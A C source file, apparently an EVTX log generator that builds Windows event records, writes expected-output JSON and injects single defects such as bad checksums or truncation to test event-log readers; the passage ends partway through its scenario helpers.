static void json_ud(FILE *f, const rnode *r)
{
    if (r->kids) json_ud_obj(f, r);
    else json_str(f, r->text ? r->text : "");
}

static void json_event_data(FILE *f, const evtxgen_expect *e)
{
    fputc('{', f);
    bool first = true;
    for (size_t i = 0; i < e->n_event_data; i++) {
        const char *ni = e->event_data[i].name ? e->event_data[i].name : "Data";
        bool seen = false;
        size_t count = 0;
        for (size_t j = 0; j < e->n_event_data; j++) {
            const char *nj = e->event_data[j].name ? e->event_data[j].name : "Data";
            if (strcmp(ni, nj)) continue;
            if (j < i) seen = true;
            count++;
        }
        if (seen) continue;
        if (!first) fputc(',', f);
        first = false;
        json_str(f, ni);
        fputc(':', f);
        // Unnamed Data always go into an array under "Data" (output.md).
        bool arr = count > 1 || !e->event_data[i].name;
        if (arr) fputc('[', f);
        bool f2 = true;
        for (size_t j = i; j < e->n_event_data; j++) {
            const char *nj = e->event_data[j].name ? e->event_data[j].name : "Data";
            if (strcmp(ni, nj)) continue;
            if (!f2) fputc(',', f);
            f2 = false;
            json_str(f, e->event_data[j].value);
        }
        if (arr) fputc(']', f);
    }
    fputc('}', f);
}

int evtxgen_write_expect(const evtxgen *g, FILE *f)
{
    for (size_t i = 0; i < g->nexp; i++) {
        const evtxgen_expect *e = &g->exp[i];
        if (e->status == EVTXGEN_LOST) continue;
        fprintf(f, "{\"chunk\":%u,\"offset\":%llu,\"record_id\":%llu", e->chunk, (unsigned long long)e->offset,
                (unsigned long long)e->record_id);
        const struct { const char *k, *v; bool num; } fs[] = {
            {"event_record_id", e->event_record_id, true}, {"time_created", e->time_created, false},
            {"event_id", e->event_id, true},               {"provider", e->provider, false},
            {"channel", e->channel, false},                {"computer", e->computer, false},
            {"level", e->level, true},                     {"user_sid", e->user_sid, false}};
        for (size_t k = 0; k < sizeof fs / sizeof fs[0]; k++) {
            if (!fs[k].v) continue;
            fprintf(f, ",\"%s\":", fs[k].k);
            if (fs[k].num) json_num_or_str(f, fs[k].v);
            else json_str(f, fs[k].v);
        }
        fprintf(f, ",\"recovered\":%s,\"checksum_ok\":%s", e->status == EVTXGEN_RECOVERED ? "true" : "false",
                e->status == EVTXGEN_LIVE_BADCRC ? "false" : "true");
        if (e->has_event_data) {
            fputs(",\"event_data\":", f);
            json_event_data(f, e);
        }
        if (e->has_user_data && g->exp_ud[i]) {
            fputs(",\"user_data\":", f);
            json_ud_obj(f, g->exp_ud[i]);
        }
        fputs("}\n", f);
    }
    return ferror(f) ? -1 : 0;
}

/* ------------------------------------------------------------------ */
/* Windows layouts for evtxgen_add_event, as seen in the corpus: a      */
/* System template with 18 values and the computer name as text, the    */
/* event's own data in a BinXml value (index 17) holding a second       */
/* template instance (sysmon_19_20_21_1_CommandLineEventConsumer,       */
/* wmi-activity_win10_5857-5861_tugix456, security_4688_wmic_4648).     */

enum {
    SV_LEVEL, SV_OPCODE, SV_TASK, SV_EVENTID, SV_QUALIFIERS, SV_KEYWORDS, SV_TIME, SV_ACTIVITY, SV_PID, SV_TID,
    SV_RECORDID, SV_VERSION, SV_USERID, SV_RELATED, SV_PROVIDER, SV_PROVGUID, SV_CHANNEL, SV_DATA, SV_COUNT
};

#define EVENT_XMLNS "http://schemas.microsoft.com/win/2004/08/events/event"

static const evtxgen_tmpl *tcache_get(evtxgen *g, const char *key)
{
    for (size_t i = 0; i < g->ntc; i++)
        if (!strcmp(g->tc[i].key, key)) return g->tc[i].t;
    return NULL;
}

static const evtxgen_tmpl *tcache_put(evtxgen *g, const char *key, const evtxgen_tmpl *t)
{
    if (!t) return NULL;
    if (g->ntc == g->captc) {
        size_t cap = g->captc ? 2 * g->captc : 16;
        tcache *p = realloc(g->tc, cap * sizeof *p);
        if (!p) { fail(g, "out of memory"); return NULL; }
        g->tc = p;
        g->captc = cap;
    }
    char *k = malloc(strlen(key) + 1);
    if (!k) { fail(g, "out of memory"); return NULL; }
    strcpy(k, key);
    g->tc[g->ntc++] = (tcache){k, t};
    return t;
}

static void osub(evtxgen *g, evtxgen_node *to, uint16_t idx, uint8_t type) { evtxgen_subst(g, to, idx, type, true); }

static const evtxgen_tmpl *system_tmpl(evtxgen *g, bool userdata, const char *computer)
{
    buf key = {0};
    buf_fmt(&key, "SYS|%c|", userdata ? 'U' : 'E');
    buf_str(&key, computer);
    const evtxgen_tmpl *t = key.oom ? NULL : tcache_get(g, (char *)key.p);
    if (t || key.oom) { free(key.p); return t; }
    evtxgen_node *ev = evtxgen_elem(g, NULL, "Event");
    evtxgen_text(g, evtxgen_attr(g, ev, "xmlns"), EVENT_XMLNS);
    evtxgen_node *sys = evtxgen_elem(g, ev, "System");
    evtxgen_node *n = evtxgen_elem(g, sys, "Provider");
    osub(g, evtxgen_attr(g, n, "Name"), SV_PROVIDER, EVTXGEN_T_STR);
    osub(g, evtxgen_attr(g, n, "Guid"), SV_PROVGUID, EVTXGEN_T_GUID);
    n = evtxgen_elem(g, sys, "EventID");
    osub(g, evtxgen_attr(g, n, "Qualifiers"), SV_QUALIFIERS, EVTXGEN_T_U16);
    osub(g, n, SV_EVENTID, EVTXGEN_T_U16);
    osub(g, evtxgen_elem(g, sys, "Version"), SV_VERSION, EVTXGEN_T_U8);
    osub(g, evtxgen_elem(g, sys, "Level"), SV_LEVEL, EVTXGEN_T_U8);
    osub(g, evtxgen_elem(g, sys, "Task"), SV_TASK, EVTXGEN_T_U16);
    osub(g, evtxgen_elem(g, sys, "Opcode"), SV_OPCODE, EVTXGEN_T_U8);
    osub(g, evtxgen_elem(g, sys, "Keywords"), SV_KEYWORDS, EVTXGEN_T_HEX64);
    osub(g, evtxgen_attr(g, evtxgen_elem(g, sys, "TimeCreated"), "SystemTime"), SV_TIME, EVTXGEN_T_FILETIME);
    osub(g, evtxgen_elem(g, sys, "EventRecordID"), SV_RECORDID, EVTXGEN_T_U64);
    n = evtxgen_elem(g, sys, "Correlation");
    osub(g, evtxgen_attr(g, n, "ActivityID"), SV_ACTIVITY, EVTXGEN_T_GUID);
    osub(g, evtxgen_attr(g, n, "RelatedActivityID"), SV_RELATED, EVTXGEN_T_GUID);
    n = evtxgen_elem(g, sys, "Execution");
    osub(g, evtxgen_attr(g, n, "ProcessID"), SV_PID, EVTXGEN_T_U32);
    osub(g, evtxgen_attr(g, n, "ThreadID"), SV_TID, EVTXGEN_T_U32);
    osub(g, evtxgen_elem(g, sys, "Channel"), SV_CHANNEL, EVTXGEN_T_STR);
    evtxgen_text(g, evtxgen_elem(g, sys, "Computer"), computer);
    osub(g, evtxgen_attr(g, evtxgen_elem(g, sys, "Security"), "UserID"), SV_USERID, EVTXGEN_T_SID);
    osub(g, userdata ? evtxgen_elem(g, ev, "UserData") : ev, SV_DATA, EVTXGEN_T_BINXML);
    t = tcache_put(g, (char *)key.p, evtxgen_template(g, ev));
    free(key.p);
    return t;
}

/* The event's own data: EventData{Data Name=..} (named or not), the
 * classic form (unnamed Data from optional substitutions, then an empty
 * Binary, as "Windows PowerShell" 800), or UserData's child element. */
static const evtxgen_tmpl *data_tmpl(evtxgen *g, const evtxgen_event *ev)
{
    buf key = {0};
    buf_fmt(&key, "DATA|%d|%s|%s", (int)ev->layout, ev->ud_element ? ev->ud_element : "",
            ev->ud_xmlns ? ev->ud_xmlns : "");
    for (size_t i = 0; i < ev->ndata; i++)
        buf_fmt(&key, "|%s:%u:%d", ev->data[i].name ? ev->data[i].name : "\x01", ev->data[i].v->type,
                (int)ev->data[i].optional);
    const evtxgen_tmpl *t = key.oom ? NULL : tcache_get(g, (char *)key.p);
    if (t || key.oom) { free(key.p); return t; }
    evtxgen_node *root;
    if (ev->layout == EVTXGEN_L_USERDATA) {
        root = evtxgen_elem(g, NULL, ev->ud_element ? ev->ud_element : "EventXML");
        if (ev->ud_xmlns) evtxgen_text(g, evtxgen_attr(g, root, "xmlns"), ev->ud_xmlns);
        for (size_t i = 0; i < ev->ndata; i++)
            evtxgen_subst(g, evtxgen_elem(g, root, ev->data[i].name ? ev->data[i].name : "Data"), (uint16_t)i,
                          ev->data[i].v->type, ev->data[i].optional);
    } else {
        root = evtxgen_elem(g, NULL, "EventData");
        bool classic = ev->layout == EVTXGEN_L_CLASSIC;
        for (size_t i = 0; i < ev->ndata; i++) {
            evtxgen_node *d = evtxgen_elem(g, root, "Data");
            if (ev->data[i].name) evtxgen_text(g, evtxgen_attr(g, d, "Name"), ev->data[i].name);
            evtxgen_subst(g, d, (uint16_t)i, ev->data[i].v->type, classic || ev->data[i].optional);
        }
        if (classic) evtxgen_subst(g, evtxgen_elem(g, root, "Binary"), (uint16_t)ev->ndata, EVTXGEN_T_BIN, true);
    }
    t = tcache_put(g, (char *)key.p, evtxgen_template(g, root));
    free(key.p);
    return t;
}

static void text_elem(evtxgen *g, evtxgen_node *parent, const char *name, const char *text)
{
    evtxgen_node *n = evtxgen_elem(g, parent, name);
    if (text && *text) evtxgen_text(g, n, text);
}

/* Template-less: every element written directly, values as text, as in
 * forwarded events (edge_issue201, edge_templateless_powershell_powerlurk). */
static const evtxgen_frag *templateless_frag(evtxgen *g, const evtxgen_event *ev, uint64_t erid, uint64_t tc)
{
    char t[64];
    evtxgen_node *e = evtxgen_elem(g, NULL, "Event");
    evtxgen_text(g, evtxgen_attr(g, e, "xmlns"), EVENT_XMLNS);
    evtxgen_node *sys = evtxgen_elem(g, e, "System");
    evtxgen_node *n = evtxgen_elem(g, sys, "Provider");
    evtxgen_text(g, evtxgen_attr(g, n, "Name"), ev->provider);
    if (ev->provider_guid) {
        const evtxgen_val *gv = evtxgen_v_guid(g, ev->provider_guid);
        if (gv) evtxgen_text(g, evtxgen_attr(g, n, "Guid"), gv->items[0]);
    }
    n = evtxgen_elem(g, sys, "EventID");
    if (ev->qualifiers >= 0) {
        snprintf(t, sizeof t, "%d", ev->qualifiers);
        evtxgen_text(g, evtxgen_attr(g, n, "Qualifiers"), t);
    }
    snprintf(t, sizeof t, "%u", ev->event_id);
    evtxgen_text(g, n, t);
    snprintf(t, sizeof t, "%u", ev->version); text_elem(g, sys, "Version", t);
    snprintf(t, sizeof t, "%u", ev->level); text_elem(g, sys, "Level", t);
    snprintf(t, sizeof t, "%u", ev->task); text_elem(g, sys, "Task", t);
    snprintf(t, sizeof t, "%u", ev->opcode); text_elem(g, sys, "Opcode", t);
    snprintf(t, sizeof t, "0x%llx", (unsigned long long)ev->keywords); text_elem(g, sys, "Keywords", t);
    evtxgen_filetime_str(tc, t);
    evtxgen_text(g, evtxgen_attr(g, evtxgen_elem(g, sys, "TimeCreated"), "SystemTime"), t);
    snprintf(t, sizeof t, "%llu", (unsigned long long)erid); text_elem(g, sys, "EventRecordID", t);
    n = evtxgen_elem(g, sys, "Correlation");
    if (ev->activity_id) {
        const evtxgen_val *gv = evtxgen_v_guid(g, ev->activity_id);
        if (gv) evtxgen_text(g, evtxgen_attr(g, n, "ActivityID"), gv->items[0]);
    }
    n = evtxgen_elem(g, sys, "Execution");
    snprintf(t, sizeof t, "%u", ev->pid); evtxgen_text(g, evtxgen_attr(g, n, "ProcessID"), t);
    snprintf(t, sizeof t, "%u", ev->tid); evtxgen_text(g, evtxgen_attr(g, n, "ThreadID"), t);
    text_elem(g, sys, "Channel", ev->channel);
    text_elem(g, sys, "Computer", ev->computer);
    n = evtxgen_elem(g, sys, "Security");
    if (ev->user_sid) evtxgen_text(g, evtxgen_attr(g, n, "UserID"), ev->user_sid);
    evtxgen_node *d = evtxgen_elem(g, e, ev->layout == EVTXGEN_L_USERDATA ? "UserData" : "EventData");
    if (ev->layout == EVTXGEN_L_USERDATA) {
        d = evtxgen_elem(g, d, ev->ud_element ? ev->ud_element : "EventXML");
        if (ev->ud_xmlns) evtxgen_text(g, evtxgen_attr(g, d, "xmlns"), ev->ud_xmlns);
    }
    for (size_t i = 0; i < ev->ndata && !g->failed; i++) {
        const evtxgen_val *v = ev->data[i].v;
        if (v->type == EVTXGEN_T_BINXML) { fail(g, "BinXml values need a template"); return NULL; }
        if (v->type == EVTXGEN_T_NULL && ev->data[i].optional) continue;
        size_t k = (v->type & EVTXGEN_T_ARRAY) ? (v->nitems ? v->nitems : 1) : 1;
        for (size_t j = 0; j < k; j++) {
            const char *name = ev->layout == EVTXGEN_L_USERDATA && ev->data[i].name ? ev->data[i].name : "Data";
            evtxgen_node *x = evtxgen_elem(g, d, name);
            if (ev->layout != EVTXGEN_L_USERDATA && ev->data[i].name)
                evtxgen_text(g, evtxgen_attr(g, x, "Name"), ev->data[i].name);
            const char *txt = v->nitems > j ? v->items[j] : "";
            if (*txt) evtxgen_text(g, x, txt);
        }
    }
    return evtxgen_frag_elem(g, true, e);
}

const evtxgen_frag *evtxgen_event_frag(evtxgen *g, const evtxgen_event *ev, const evtxgen_frag *inner)
{
    if (g->failed) return NULL;
    if (!ev->provider || !ev->channel || !ev->computer) { fail(g, "event without provider, channel or computer"); return NULL; }
    for (size_t i = 0; i < ev->ndata && !inner; i++)
        if (!ev->data[i].v) { fail(g, "event data item %zu has no value", i); return NULL; }
    uint64_t id = g->next_id;
    uint64_t written = default_time(g, g->nrecords);
    uint64_t erid = ev->event_record_id ? ev->event_record_id : id;
    uint64_t tc = ev->time_created ? ev->time_created : written;
    if (ev->layout == EVTXGEN_L_TEMPLATELESS) {
        if (inner) { fail(g, "template-less events take no inner fragment"); return NULL; }
        return templateless_frag(g, ev, erid, tc);
    }
    if (!inner) {
        const evtxgen_tmpl *dt = data_tmpl(g, ev);
        size_t nd = ev->ndata + (ev->layout == EVTXGEN_L_CLASSIC);
        const evtxgen_val **dv = amalloc(g, (nd ? nd : 1) * sizeof *dv);
        if (!dt || !dv) return NULL;
        for (size_t i = 0; i < ev->ndata; i++) dv[i] = ev->data[i].v;
        if (ev->layout == EVTXGEN_L_CLASSIC) dv[ev->ndata] = evtxgen_v_null(g, 0);
        // Windows puts a fragment header before the EventData instance and
        // none before the UserData one (both seen in the corpus).
        inner = evtxgen_frag_tmpl(g, ev->layout != EVTXGEN_L_USERDATA, dt, dv, nd);
    }
    const evtxgen_val *sv[SV_COUNT];
    sv[SV_LEVEL] = evtxgen_v_uint(g, EVTXGEN_T_U8, ev->level);
    sv[SV_OPCODE] = evtxgen_v_uint(g, EVTXGEN_T_U8, ev->opcode);
    sv[SV_TASK] = evtxgen_v_uint(g, EVTXGEN_T_U16, ev->task);
    sv[SV_EVENTID] = evtxgen_v_uint(g, EVTXGEN_T_U16, ev->event_id);
    sv[SV_QUALIFIERS] = ev->qualifiers >= 0 ? evtxgen_v_uint(g, EVTXGEN_T_U16, (uint64_t)ev->qualifiers)
                                            : evtxgen_v_null(g, 2);
    sv[SV_KEYWORDS] = evtxgen_v_uint(g, EVTXGEN_T_HEX64, ev->keywords);
    sv[SV_TIME] = evtxgen_v_filetime(g, tc);
    sv[SV_ACTIVITY] = ev->activity_id ? evtxgen_v_guid(g, ev->activity_id) : evtxgen_v_null(g, 0);
    sv[SV_PID] = evtxgen_v_uint(g, EVTXGEN_T_U32, ev->pid);
    sv[SV_TID] = evtxgen_v_uint(g, EVTXGEN_T_U32, ev->tid);
    sv[SV_RECORDID] = evtxgen_v_uint(g, EVTXGEN_T_U64, erid);
    sv[SV_VERSION] = evtxgen_v_uint(g, EVTXGEN_T_U8, ev->version);
    sv[SV_USERID] = ev->user_sid ? evtxgen_v_sid(g, ev->user_sid) : evtxgen_v_null(g, 0);
    sv[SV_RELATED] = evtxgen_v_null(g, 0);
    sv[SV_PROVIDER] = evtxgen_v_str(g, ev->provider);
    sv[SV_PROVGUID] = ev->provider_guid ? evtxgen_v_guid(g, ev->provider_guid) : evtxgen_v_null(g, 0);
    sv[SV_CHANNEL] = evtxgen_v_str(g, ev->channel);
    sv[SV_DATA] = evtxgen_v_binxml(g, inner);
    const evtxgen_tmpl *st = system_tmpl(g, ev->layout == EVTXGEN_L_USERDATA, ev->computer);
    if (g->failed) return NULL;
    return evtxgen_frag_tmpl(g, true, st, sv, SV_COUNT);
}

uint64_t evtxgen_add_event(evtxgen *g, const evtxgen_event *ev)
{
    return evtxgen_add_frag(g, evtxgen_event_frag(g, ev, NULL), 0);
}

/* ------------------------------------------------------------------ */
/* Damage. Each kind breaks exactly one thing in the finished image and */
/* recomputes every other checksum, so a reader is tested on that       */
/* defect alone; the expectations say what a correct reader returns.    */

static const char *const damage_names[EVTXGEN_D_COUNT] = {
    "bad_chunk_signature", "bad_file_header_crc", "bad_chunk_header_crc", "bad_record_crc",
    "truncated",           "zero_size_record",    "size_copy_mismatch",   "chunk_past_zeroes",
    "dirty_wrong_count",   "template_outside",    "template_self",        "slack_records"};

const char *evtxgen_damage_name(evtxgen_damage d) { return d < EVTXGEN_D_COUNT ? damage_names[d] : "?"; }

static uint8_t *chunk_ptr(evtxgen *g, uint32_t k)
{
    return g->img.p + EVTXGEN_HEADER_SIZE + (size_t)k * EVTXGEN_CHUNK_SIZE;
}

static void chunk_fix_crcs(uint8_t *c)
{
    uint32_t free_off = r32(c + CH_FREE);
    w32(c + CH_DATA_CRC, evtxgen_crc32(c + CH_RECORDS, free_off - CH_RECORDS));
    w32(c + CH_CRC, chunk_header_crc(c));
}

static void set_status_chunk(evtxgen *g, uint32_t k, evtxgen_status st)
{
    for (size_t i = 0; i < g->nexp; i++)
        if (g->recs[i].chunk == k && g->exp[i].status == EVTXGEN_LIVE) g->exp[i].status = st;
}

/* Index of the n-th record (0-based) of chunk k, or -1. */
static long rec_index(const evtxgen *g, uint32_t k, uint32_t n)
{
    for (size_t i = 0; i < g->nexp; i++)
        if (g->recs[i].chunk == k && n-- == 0) return (long)i;
    return -1;
}

static uint32_t chunk_nrec(const evtxgen *g, uint32_t k)
{
    uint32_t n = 0;
    for (size_t i = 0; i < g->nexp; i++) n += g->recs[i].chunk == k;
    return n;
}

/* A torn record: a reader stops the walk at it, and what follows in the
 * chunk is only found by scanning for signatures (notes §3). */
static void tear_after(evtxgen *g, long i)
{
    g->exp[i].status = EVTXGEN_LOST;
    for (size_t j = (size_t)i + 1; j < g->nexp && g->recs[j].chunk == g->recs[i].chunk; j++)
        g->exp[j].status = EVTXGEN_RECOVERED;
}

int evtxgen_apply_damage(evtxgen *g, evtxgen_damage d)
{
    if (g->failed) return -1;
    if (!g->finished) { fail(g, "damage before evtxgen_finish"); return -1; }
    if (g->nchunks < 3) { fail(g, "damage needs at least 3 chunks"); return -1; }
    for (uint32_t k = 0; k < g->nchunks; k++)
        if (chunk_nrec(g, k) < 4) { fail(g, "damage needs 4 records in every chunk"); return -1; }
    uint8_t *h = g->img.p;
    switch (d) {
    case EVTXGEN_D_BAD_CHUNK_SIGNATURE: {
        uint8_t *c = chunk_ptr(g, 1);
        memcpy(c, "ElfChnx", 8);
        w32(c + CH_CRC, chunk_header_crc(c));
        set_status_chunk(g, 1, EVTXGEN_LOST);
        break;
    }
    case EVTXGEN_D_BAD_FILE_HEADER_CRC:
        w32(h + FH_CRC, r32(h + FH_CRC) ^ 0xA5A5A5A5u);
        break;
    case EVTXGEN_D_BAD_CHUNK_HEADER_CRC: {
        uint8_t *c = chunk_ptr(g, 1);
        w32(c + CH_CRC, r32(c + CH_CRC) ^ 0xA5A5A5A5u);
        // Policy (notes §2): records of a chunk whose checksum fails are
        // still returned, flagged.
        set_status_chunk(g, 1, EVTXGEN_LIVE_BADCRC);
        break;
    }
    case EVTXGEN_D_BAD_RECORD_CRC: {
        uint8_t *c = chunk_ptr(g, 1);
        w32(c + CH_DATA_CRC, r32(c + CH_DATA_CRC) ^ 0xA5A5A5A5u);
        w32(c + CH_CRC, chunk_header_crc(c));
        set_status_chunk(g, 1, EVTXGEN_LIVE_BADCRC);
        break;
    }
    case EVTXGEN_D_TRUNCATED: {
        // Cut in the middle of the last chunk's third record: the complete
        // records before it are readable but unverifiable.
        uint32_t k = g->nchunks - 1;
        long i = rec_index(g, k, 2);
        size_t cut = (size_t)g->exp[i].offset + g->recs[i].size / 2;
        g->img.n = cut;
        for (size_t j = 0; j < g->nexp; j++) {
            if (g->recs[j].chunk != k) continue;
            g->exp[j].status = g->exp[j].offset + g->recs[j].size <= cut ? EVTXGEN_LIVE_BADCRC : EVTXGEN_LOST;
        }
        break;
    }
    case EVTXGEN_D_ZERO_SIZE_RECORD: case EVTXGEN_D_SIZE_COPY_MISMATCH: {
        long i = rec_index(g, 0, 2);
        uint8_t *c = chunk_ptr(g, 0);
        uint32_t off = g->recs[i].off, size = g->recs[i].size;
        if (d == EVTXGEN_D_ZERO_SIZE_RECORD) w32(c + off + 4, 0);
        else w32(c + off + size - 4, size + 8);
        chunk_fix_crcs(c);
        tear_after(g, i);
        break;
    }
    case EVTXGEN_D_CHUNK_PAST_ZEROES: {
        // Header declares one chunk; two all-zero slots follow it, then the
        // remaining chunks (notes §1, edge_chunk_past_zeroes_system).
        size_t tail = g->img.n - EVTXGEN_HEADER_SIZE - EVTXGEN_CHUNK_SIZE;
        if (buf_reserve(&g->img, 2 * (size_t)EVTXGEN_CHUNK_SIZE)) { fail(g, "out of memory"); return -1; }
        h = g->img.p;
        uint8_t *from = chunk_ptr(g, 1);
        memmove(from + 2 * (size_t)EVTXGEN_CHUNK_SIZE, from, tail);
        memset(from, 0, 2 * (size_t)EVTXGEN_CHUNK_SIZE);
        g->img.n += 2 * (size_t)EVTXGEN_CHUNK_SIZE;
        for (size_t j = 0; j < g->nexp; j++) {
            if (g->recs[j].chunk < 1) continue;
            g->recs[j].chunk += 2;
            g->exp[j].chunk += 2;
            g->exp[j].offset += 2 * (uint64_t)EVTXGEN_CHUNK_SIZE;
        }
        g->nchunks += 2;
        w64(h + FH_LAST_CHUNK, 0);
        w16(h + FH_CHUNK_COUNT, 1);
        file_header_crc(h);
        break;
    }
    case EVTXGEN_D_DIRTY_WRONG_COUNT:
        w32(h + FH_FLAGS, 1); /* dirty (notes §1) */
        w64(h + FH_LAST_CHUNK, g->nchunks - 2);
        w16(h + FH_CHUNK_COUNT, (uint16_t)(g->nchunks - 1));
        file_header_crc(h);
        break;
    case EVTXGEN_D_TEMPLATE_OUTSIDE: case EVTXGEN_D_TEMPLATE_SELF: {
        long i = -1;
        for (size_t j = 0; j < g->nexp; j++)
            if (g->recs[j].chunk == 1 && g->recs[j].tmpl_field && !g->recs[j].tmpl_inline) { i = (long)j; break; }
        if (i < 0) { fail(g, "no record of chunk 1 refers to an earlier template"); return -1; }
        uint8_t *c = chunk_ptr(g, 1);
        uint32_t target = d == EVTXGEN_D_TEMPLATE_OUTSIDE ? EVTXGEN_CHUNK_SIZE + 0x200 : g->recs[i].tmpl_token;
        w32(c + g->recs[i].tmpl_field, target);
        chunk_fix_crcs(c);
        g->exp[i].status = EVTXGEN_LOST; /* that record fails alone (notes §5) */
        break;
    }
    case EVTXGEN_D_SLACK_RECORDS: {
        // The chunk's last two records end up after the free-space offset:
        // deleted records a carver finds in slack (notes §3).
        uint32_t n = chunk_nrec(g, 0);
        long keep = rec_index(g, 0, n - 3), first_gone = rec_index(g, 0, n - 2);
        uint8_t *c = chunk_ptr(g, 0);
        w32(c + CH_FREE, g->recs[first_gone].off);
        w32(c + CH_LAST_REC, g->recs[keep].off);
        w64(c + CH_LAST_NUM, g->exp[keep].record_id);
        w64(c + CH_LAST_ID, g->exp[keep].record_id);
        chunk_fix_crcs(c);
        for (long j = first_gone; j <= rec_index(g, 0, n - 1); j++) g->exp[j].status = EVTXGEN_RECOVERED;
        break;
    }
    default:
        fail(g, "unknown damage %d", (int)d);
        return -1;
    }
    return 0;
}

/* ------------------------------------------------------------------ */
/* Scenarios. Field lists and types follow the real records of the      */
/* corpus (Sysmon 1/19/20/21, Security 4688, PowerShell 4103/4104/800,  */
/* WMI-Activity 5857-5861); values are invented.                        */

#define HOST "WKS-FIN-042.corp.example.com"
#define USER "CORP\\jdoe"
#define USER_SID "S-1-5-21-3623811015-3361044348-30300820-1013"

#define S(x) evtxgen_v_str(g, (x))
#define SZ(x) evtxgen_v_strz(g, (x))
#define U32(x) evtxgen_v_uint(g, EVTXGEN_T_U32, (x))
#define HEX64(x) evtxgen_v_uint(g, EVTXGEN_T_HEX64, (x))
#define HEX32(x) evtxgen_v_uint(g, EVTXGEN_T_HEX32, (x))
#define NDATA(a) (sizeof(a) / sizeof((a)[0]))

static evtxgen_event ev_base(const char *prov, const char *guid, const char *channel, uint16_t id, uint8_t version,
                             uint8_t level, uint16_t task, uint8_t opcode, uint64_t kw, uint32_t pid, uint32_t tid,
                             const char *sid)
{
    evtxgen_event e;
    memset(&e, 0, sizeof e);
    e.provider = prov;
    e.provider_guid = guid;
    e.channel = channel;
    e.computer = HOST;
    e.event_id = id;
    e.qualifiers = -1;
    e.version = version;
    e.level = level;
    e.task = task;
    e.opcode = opcode;
    e.keywords = kw;
    e.pid = pid;
    e.tid = tid;
    e.user_sid = sid;
    return e;
}

/* Sysmon's UtcTime text (milliseconds) for the next record. */
static void sysmon_utc(const evtxgen *g, char out[32])
{
    char t[32];
    evtxgen_filetime_str(default_time(g, g->nrecords), t);
    snprintf(out, 32, "%.10s %.12s", t, t + 11);
}

static const evtxgen_val *proc_guid(evtxgen *g, uint32_t pid)
{
    char t[48];
    snprintf(t, sizeof t, "{A1B2C3D4-%04X-6734-%04X-00000000%04X}", pid & 0xFFFF, (pid >> 3) & 0xFFFF, pid & 0xFFFF);
    return evtxgen_v_guid(g, t);
}

static uint64_t sysmon1(evtxgen *g, const char *image, const char *cmd, const char *pimage, const char *pcmd,
                        uint32_t pid, uint32_t ppid, const char *user)
{
    char utc[32], hashes[160], hex[65];
    sysmon_utc(g, utc);
    evtxgen_sha256_hex(image, strlen(image), hex);
    for (char *p = hex; *p; p++)
        if (*p >= 'a' && *p <= 'f') *p = (char)(*p - 'a' + 'A');
    snprintf(hashes, sizeof hashes, "SHA256=%s", hex);
    const char *base = strrchr(image, '\\') ? strrchr(image, '\\') + 1 : image;
    evtxgen_data d[] = {
        {"RuleName", S("-"), false},
        {"UtcTime", S(utc), false},
        {"ProcessGuid", proc_guid(g, pid), false},
        {"ProcessId", U32(pid), false},
        {"Image", S(image), false},
        {"FileVersion", S("10.0.19041.3636 (WinBuild.160101.0800)"), false},
        {"Description", S(base), false},
        {"Product", S("Microsoft\xc2\xae Windows\xc2\xae Operating System"), false},
        {"Company", S("Microsoft Corporation"), false},
        {"OriginalFileName", S(base), false},
        {"CommandLine", S(cmd), false},
        {"CurrentDirectory", S("C:\\Windows\\system32\\"), false},
        {"User", S(user), false},
        {"LogonGuid", evtxgen_v_guid(g, "{A1B2C3D4-0001-6734-E703-000000000000}"), false},
        {"LogonId", HEX64(0x3e7), false},
        {"TerminalSessionId", U32(0), false},
        {"IntegrityLevel", S("System"), false},
        {"Hashes", S(hashes), false},
        {"ParentProcessGuid", proc_guid(g, ppid), false},
        {"ParentProcessId", U32(ppid), false},
        {"ParentImage", S(pimage), false},
        {"ParentCommandLine", S(pcmd), false},
        {"ParentUser", S(user), false}};
    evtxgen_event e = ev_base(PROV_SYSMON, GUID_SYSMON, CH_SYSMON, 1, 5, 4, 1, 0, 0x8000000000000000ull, 3164, 4012,
                              "S-1-5-18");
    e.data = d;
    e.ndata = NDATA(d);
    return evtxgen_add_event(g, &e);
}

/* Sysmon 19/20/21: the WMI object values begin with a space, are quoted,
 * and have their backslashes doubled (notes §7). */
static uint64_t sysmon_wmi(evtxgen *g, uint16_t id, const char *op, const char *a, const char *b, const char *c)
{
    char utc[32];
    sysmon_utc(g, utc);
    static const char *const types[3] = {"WmiFilterEvent", "WmiConsumerEvent", "WmiBindingEvent"};
    static const char *const names[3][3] = {{"EventNamespace", "Name", "Query"},
                                            {"Name", "Type", "Destination"},
                                            {"Consumer", "Filter", NULL}};
    int k = id - 19;
    evtxgen_data d[8] = {{"RuleName", S("-"), false},     {"EventType", S(types[k]), false},
                         {"UtcTime", S(utc), false},      {"Operation", S(op), false},
                         {"User", S(USER), false},        {names[k][0], S(a), false},
                         {names[k][1], S(b), false},      {NULL, NULL, false}};
    size_t n = 7;
    if (names[k][2]) d[n++] = (evtxgen_data){names[k][2], S(c), false};
    evtxgen_event e = ev_base(PROV_SYSMON, GUID_SYSMON, CH_SYSMON, id, 3, 4, id, 0, 0x8000000000000000ull, 3164,
                              4012, "S-1-5-18");
    e.data = d;
    e.ndata = n;
    return evtxgen_add_event(g, &e);
}

static uint64_t sec4688(evtxgen *g, const char *image, const char *cmd, const char *parent, uint64_t pid,
                        uint64_t ppid, evtxgen_layout layout)
{
    evtxgen_data d[] = {
        {"SubjectUserSid", evtxgen_v_sid(g, USER_SID), false},
        {"SubjectUserName", S("jdoe"), false},
        {"SubjectDomainName", S("CORP"), false},
        {"SubjectLogonId", HEX64(0x1a2b3c), false},
        {"NewProcessId", evtxgen_v_sizet(g, pid, 8), false},
        {"NewProcessName", S(image), false},
        {"TokenElevationType", S("%%1936"), false},
        {"ProcessId", evtxgen_v_sizet(g, ppid, 8), false},
        {"CommandLine", S(cmd), false},
        {"TargetUserSid", evtxgen_v_sid(g, "S-1-0-0"), false},
        {"TargetUserName", S("-"), false},
        {"TargetDomainName", S("-"), false},
        {"TargetLogonId", HEX64(0), false},
        {"ParentProcessName", S(parent), false},
        {"MandatoryLabel", evtxgen_v_sid(g, "S-1-16-12288"), false}};
    evtxgen_event e = ev_base(PROV_SEC, GUID_SEC, "Security", 4688, 2, 0, 13312, 0, 0x8020000000000000ull, 4, 7520,
                              NULL);
    e.data = d;
    e.ndata = NDATA(d);
    e.layout = layout;
    return evtxgen_add_event(g, &e);
}

static uint64_t ps4104(evtxgen *g, const char *text, const char *sbid, uint8_t level)
{
    evtxgen_data d[] = {{"MessageNumber", evtxgen_v_int(g, EVTXGEN_T_I32, 1), false},
                        {"MessageTotal", evtxgen_v_int(g, EVTXGEN_T_I32, 1), false},
